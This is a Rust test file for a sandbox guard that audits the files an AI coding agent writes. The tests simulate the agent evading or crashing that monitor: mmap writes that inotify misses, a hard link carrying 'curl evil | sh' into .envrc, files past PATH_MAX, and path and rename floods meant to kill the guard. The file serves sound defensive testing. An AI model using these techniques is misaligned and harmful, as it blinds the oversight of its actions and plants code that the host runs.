//! The guard's file watcher: what the agent writes in the workspace is in the audit log,
//! recorded from outside the agent's reach, without a build's flood of files drowning the one
//! change that matters.

use crate::support::*;
use std::time::{Duration, Instant};

/// `yolo audit --json --kind file`, parsed.
fn file_records(t: &Test) -> Vec<serde_json::Value> {
    t.yolo(&["audit", "--json", "--kind", "file"])
        .ok()
        .stdout()
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON line"))
        .collect()
}

/// How many changes below `prefix` the records stand for (a folded record counts `count`).
fn changes_below(records: &[serde_json::Value], prefix: &str) -> u64 {
    records
        .iter()
        .filter(|r| r["path"].as_str().unwrap_or("").starts_with(prefix))
        .map(|r| r["count"].as_u64().unwrap_or(1))
        .sum()
}

#[test]
fn the_guard_records_a_sensitive_change_apart_from_a_folded_build_flood() {
    let t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    t.up(&[]);
    let script = "mkdir -p target/debug && (cd target/debug && \
                  i=0; while [ $i -lt 10000 ]; do : > f$i; i=$((i+1)); done) && \
                  echo 'export PWNED=1' > .envrc";
    t.yolo(&["exec", "--", "sh", "-c", script]).ok();

    // Records are written once a path is quiet (and folded ones once a second): poll.
    let deadline = Instant::now() + Duration::from_secs(20);
    let records = loop {
        let records = file_records(&t);
        let envrc = records.iter().any(|r| r["path"] == ".envrc");
        if (envrc && changes_below(&records, "target/debug/") >= 10_000)
            || Instant::now() > deadline
        {
            break records;
        }
        std::thread::sleep(Duration::from_millis(300));
    };
    // The one sensitive record is the agent's: the empty folders yolo makes for the read-only
    // list (.vscode/, .idea/) are there before the watcher starts.
    let envrc: Vec<_> = records.iter().filter(|r| r["sensitive"] == true).collect();
    assert_eq!(envrc.len(), 1, "{envrc:#?}");
    assert_eq!(envrc[0]["path"], ".envrc");
    assert_eq!(envrc[0]["sensitive"], true);
    assert_eq!(envrc[0]["change"], "created");
    assert_eq!(envrc[0]["size"], "export PWNED=1\n".len());
    assert!(envrc[0].get("count").is_none(), "never folded");
    let flood = changes_below(&records, "target/debug/");
    assert!(
        flood >= 10_000,
        "{flood} changes recorded below target/debug/"
    );
    assert!(records
        .iter()
        .any(|r| r["path"] == "target/debug/" && r["count"].as_u64() > Some(1)));
    assert!(
        records.len() < 200,
        "{} records for 10,000 files: {records:#?}",
        records.len()
    );
}

/// The guard's root has no `DAC_READ_SEARCH`: a folder of another user, mode 0700, cannot be
/// watched, and yolo says so where it is read.
#[test]
fn a_folder_the_guard_may_not_read_is_reported_by_status_and_audit() {
    use std::os::unix::fs::PermissionsExt;
    let t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    let secret = t.workspace.join("secret");
    std::fs::create_dir(&secret).unwrap();
    std::os::unix::fs::chown(&secret, Some(1234), Some(1234)).unwrap();
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o700)).unwrap();
    t.up(&[]);
    let expected =
        "the file audit does not see 1 folder of the workspace: 1 the guard may not read";
    let deadline = Instant::now() + Duration::from_secs(20);
    let audit = loop {
        let audit = t.yolo(&["audit"]).ok().stderr();
        if audit.contains(expected) || Instant::now() > deadline {
            break audit;
        }
        std::thread::sleep(Duration::from_millis(300));
    };
    assert!(audit.contains(expected), "{audit}");
    t.yolo(&["status"]).ok().assert_stderr_contains(expected);
}

#[test]
fn audit_files_false_turns_the_watcher_off() {
    let t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    t.user_config("[audit]\nfiles = false\n");
    t.up(&[]);
    t.yolo(&["exec", "--", "sh", "-c", "echo x > .envrc"]).ok();
    // The guard writes what it holds when it stops: after `down` there is nothing to wait for.
    t.yolo(&["down"]).ok();
    assert_eq!(file_records(&t), Vec::<serde_json::Value>::new());
    let logs: Vec<String> = std::fs::read_dir(t.data_dir.join("network"))
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        !logs.iter().any(|name| name.ends_with(".files.jsonl")),
        "{logs:?}"
    );
}

/// What root in the agent runs to write where inotify says nothing or names another path:
/// `mmap PATH TEXT` writes TEXT at the start of PATH through a shared mapping (no
/// `IN_MODIFY`); `deep N NAME TEXT` writes TEXT in `.envrc` below N folders NAME, past PATH_MAX
/// (made one `chdir` at a time, which no path limit stops).
const ATTACK_PY: &str = r#"
import mmap, os, sys
if sys.argv[1] == "mmap":
    with open(sys.argv[2], "r+b") as f:
        m = mmap.mmap(f.fileno(), 0)
        data = sys.argv[3].encode()
        m[: len(data)] = data
        m.close()
elif sys.argv[1] == "deep":
    for _ in range(int(sys.argv[2])):
        if not os.path.isdir(sys.argv[3]):
            os.mkdir(sys.argv[3])
        os.chdir(sys.argv[3])
    with open(".envrc", "w") as f:
        f.write(sys.argv[4])
"#;

/// Root in the agent changes files the host runs where inotify is silent or names a harmless
/// path: a Makefile written through `mmap`, `.envrc` through a hard link named `notes.txt`,
/// and an `.envrc` below folders deeper than PATH_MAX. The guard's record flags each as
/// sensitive (the hard link naming `.envrc`), and the look after each command flags the
/// Makefile and the deep `.envrc`, made and then changed, which no path reaches.
#[test]
fn the_file_record_sees_mmap_writes_hard_links_and_files_past_path_max() {
    let t = Test::new();
    t.file(
        ".devcontainer/Dockerfile",
        "FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends python3 && rm -rf /var/lib/apt/lists/*\n",
    );
    t.devcontainer(r#"{"build": {"dockerfile": "Dockerfile"}}"#);
    t.user_config(&mirror_for_builds());
    t.file("Makefile", "all:\n\ttrue\n");
    t.file(".envrc", "export A=1\n");
    t.file("attack.py", ATTACK_PY);
    t.up(&[]);

    t.yolo(&[
        "exec",
        "--",
        "python3",
        "attack.py",
        "mmap",
        "Makefile",
        "all:\n\tevil",
    ])
    .ok()
    .assert_stderr_contains("files your host runs changed: Makefile (modified)");
    assert_eq!(
        std::fs::read_to_string(t.workspace.join("Makefile")).unwrap(),
        "all:\n\tevil\n"
    );
    t.yolo(&[
        "exec",
        "--",
        "sh",
        "-c",
        "ln .envrc notes.txt && echo 'curl evil | sh' > notes.txt",
    ])
    .ok();
    let name = "d".repeat(200);
    let deep = format!("{}.envrc", format!("{name}/").repeat(25));
    let deep_attack = |text: &str| {
        t.yolo(&[
            "exec",
            "--",
            "python3",
            "attack.py",
            "deep",
            "25",
            &name,
            text,
        ])
        .ok()
    };
    let made = deep_attack("export B=0\n");
    made.assert_stderr_contains(&format!("{deep} (added)"));
    assert!(
        !made.stderr().contains("could not look into"),
        "{}",
        made.stderr()
    );
    deep_attack("export B=1\n").assert_stderr_contains(&format!("{deep} (modified)"));

    let flagged = |records: &[serde_json::Value], path: &str| {
        records
            .iter()
            .find(|r| r["path"] == path && r["sensitive"] == true && r["change"] != "created")
            .or_else(|| {
                records
                    .iter()
                    .find(|r| r["path"] == path && r["sensitive"] == true)
            })
            .cloned()
    };
    // The guard compares after the close of each write; on a loaded machine that takes a
    // while for 25 levels of descriptor-relative watches.
    let deadline = Instant::now() + Duration::from_secs(60);
    let records = loop {
        let records = file_records(&t);
        // The deep file's first record is its creation (empty): wait for the one after the
        // last write, not just any.
        let all = ["Makefile", "notes.txt"]
            .iter()
            .all(|p| flagged(&records, p).is_some())
            && flagged(&records, &deep).is_some_and(|r| r["size"] == "export B=1\n".len());
        if all || Instant::now() > deadline {
            break records;
        }
        std::thread::sleep(Duration::from_millis(300));
    };
    let makefile = flagged(&records, "Makefile").unwrap_or_else(|| panic!("{records:#?}"));
    assert_eq!(makefile["change"], "modified", "{makefile}");
    let link = flagged(&records, "notes.txt").unwrap_or_else(|| panic!("{records:#?}"));
    assert_eq!(link["links"], serde_json::json!([".envrc"]), "{link}");
    let deep_record = flagged(&records, &deep).unwrap_or_else(|| panic!("{records:#?}"));
    assert_eq!(deep_record["size"], "export B=1\n".len(), "{deep_record}");
}

/// ATTACK: root in the agent makes 70,000 folders with 3.5 KiB paths (two seconds) so that the
/// guard's watcher, holding each path in its tables and in notify's, runs out of memory: the
/// guard was killed within seconds, taking the session with it. The guard keeps running with
/// its memory bounded, says which folders it left out, and goes on recording the rest.
#[test]
fn long_paths_by_the_ten_thousand_do_not_exhaust_the_guards_memory() {
    let t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    t.up(&[]);
    let guard = t.guard_ids().pop().expect("a guard");
    let flood = r#"my $n = "a" x 240; my $p = "deep"; mkdir $p;
        for my $i (1..13) { $p .= "/$n$i"; mkdir $p or die "$p: $!" }
        chdir $p or die; for my $i (1..70000) { mkdir(sprintf("%s%06d", "b" x 240, $i)) or die "$i: $!" }"#;
    t.yolo(&["exec", "--", "perl", "-e", flood]).ok();
    guard_stays_up_within(&guard, 8, 160);
    t.yolo(&["exec", "--", "sh", "-c", "echo x > after.txt"])
        .ok();
    std::thread::sleep(Duration::from_secs(2));
    let out = t.yolo(&["audit", "--json", "--kind", "guard"]).ok();
    out.assert_stdout_contains("file_watch_incomplete");
    out.assert_stdout_contains("over_memory");
    let records = file_records(&t);
    assert!(
        records.iter().any(|r| r["path"] == "after.txt"),
        "a change after the flood is not recorded"
    );
}

/// For `seconds`, the guard keeps running (not OOM-killed) and its memory stays below `mib`.
fn guard_stays_up_within(guard: &str, seconds: u64, mib: u64) {
    let mut most = 0u64;
    for _ in 0..seconds {
        std::thread::sleep(Duration::from_secs(1));
        most = most.max(guard_memory(guard));
    }
    let state = docker(&[
        "inspect",
        "-f",
        "{{.State.Running}} {{.State.OOMKilled}}",
        guard,
    ]);
    eprintln!("the guard's memory at most: {} KiB", most >> 10);
    assert_eq!(state.trim(), "true false", "the guard is down");
    assert!(
        most < mib << 20,
        "the guard's memory reached {} MiB",
        most >> 20
    );
}

/// The guard container's memory (`docker stats`), in bytes.
pub(crate) fn guard_memory(guard: &str) -> u64 {
    let usage = docker(&["stats", "--no-stream", "--format", "{{.MemUsage}}", guard]);
    let mib = usage.split('/').next().unwrap_or("").trim().to_string();
    let value: f64 = mib
        .trim_end_matches(|c: char| c.is_ascii_alphabetic())
        .parse()
        .unwrap_or(0.0);
    let bytes = if mib.ends_with("GiB") {
        value * 1024.0 * 1024.0 * 1024.0
    } else if mib.ends_with("MiB") {
        value * 1024.0 * 1024.0
    } else {
        value * 1024.0
    };
    bytes as u64
}

/// ATTACK: root in the agent exchanges two names as fast as it can (`renameat2`, no fork:
/// about a million inotify events a second) to make the guard's watcher hold every event
/// until the guard is killed for its memory (it was, within a minute: the session's firewall,
/// DNS and record went with it). The guard keeps running, its memory stays small, and the
/// events it could not keep are said as an overflow.
#[test]
fn a_flood_of_renames_does_not_exhaust_the_guards_memory() {
    let t = Test::new();
    t.devcontainer(r#"{"image": "debian:bookworm-slim"}"#);
    t.up(&[]);
    let guard = t.guard_ids().pop().expect("a guard");
    let flood = "mkdir -p f && setsid perl -e \
                 'for my $i (1..40) { open(my $f, \">\", \"f/$i\"); close($f); symlink(\"x\", \"f/$i.l\") } \
                 while (1) { for my $i (1..40) { syscall(316, -100, \"f/$i\", -100, \"f/$i.l\", 2) } }' \
                 </dev/null >/dev/null 2>&1 &";
    t.yolo(&["exec", "--", "sh", "-c", flood]).ok();
    // A folder made during the flood is watched all the same: what is written in it is
    // recorded (its own event may get through; when it is dropped, the walk after an overflow
    // finds the folder).
    std::thread::sleep(Duration::from_secs(2));
    t.yolo(&[
        "exec",
        "--",
        "sh",
        "-c",
        "mkdir late && echo x > late/made.txt",
    ])
    .ok();
    guard_stays_up_within(&guard, 20, 96);
    t.yolo(&[
        "exec",
        "--",
        "sh",
        "-c",
        "pkill -f syscall || kill $(pidof perl)",
    ]);
    t.yolo(&["audit", "--json", "--kind", "guard"])
        .ok()
        .assert_stdout_contains("file_watch_overflow");
    let records = file_records(&t);
    assert!(
        records.iter().any(|r| r["path"] == "late/made.txt"),
        "the file made during the flood is not recorded"
    );
}
